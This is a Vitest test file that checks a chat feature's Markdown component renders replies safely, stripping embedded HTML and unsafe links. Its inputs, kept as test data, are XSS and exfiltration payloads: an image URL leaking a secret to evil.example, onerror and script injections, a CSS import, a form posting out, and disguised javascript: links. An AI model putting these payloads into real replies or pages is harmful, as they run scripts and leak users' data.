// @vitest-environment happy-dom
import { cleanup, render } from "@testing-library/react";
import { afterEach, describe, expect, test } from "vitest";
import { Markdown } from "../src/features/chat/Markdown.tsx";

describe("a reply is shown as elements, never as markup of its own", () => {
  afterEach(cleanup);
  const show = (text: string) => render(<Markdown text={text} />).container;

  test.each([
    ["an image", "![chart](https://evil.example/?secret=1)"],
    ["a reference image", "![chart][1]\n\n[1]: https://evil.example/x.png"],
    ["HTML in a line", 'see <img src="https://evil.example/x" onerror="alert(1)"> here'],
    [
      "a block of HTML",
      "<div>\n<script>alert(1)</script>\n<iframe src=//evil.example></iframe>\n</div>",
    ],
    ["HTML in a table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
    ["a style", "<style>@import url(https://evil.example/x.css)</style>"],
    ["a form", '<form action="https://evil.example"><button>Publish</button></form>'],
  ])("%s loads and runs nothing", (_, text) => {
    const shown = show(text);
    expect(
      shown.querySelectorAll("img, script, iframe, style, form, button, link, object"),
    ).toHaveLength(0);
    const attributes = [...shown.querySelectorAll("*")].flatMap((each) => each.getAttributeNames());
    expect(attributes.filter((name) => name.startsWith("on"))).toEqual([]);
    expect(shown.textContent.trim()).not.toBe("");
  });

  test.each([
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x)",
    "[a](//evil.example)",
    "[a](/api/v1/changes)",
    "[a](&#106;avascript:alert(1))",
  ])("%s is no link", (text) => {
    expect(show(text).querySelectorAll("a[href]")).toHaveLength(0);
  });

  test("a plain address is a link that tells the other side nothing", () => {
    const link = show("[docs](https://example.org/a)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/a");
    expect(link?.rel).toContain("noreferrer");
    expect(link?.rel).toContain("noopener");
  });
});
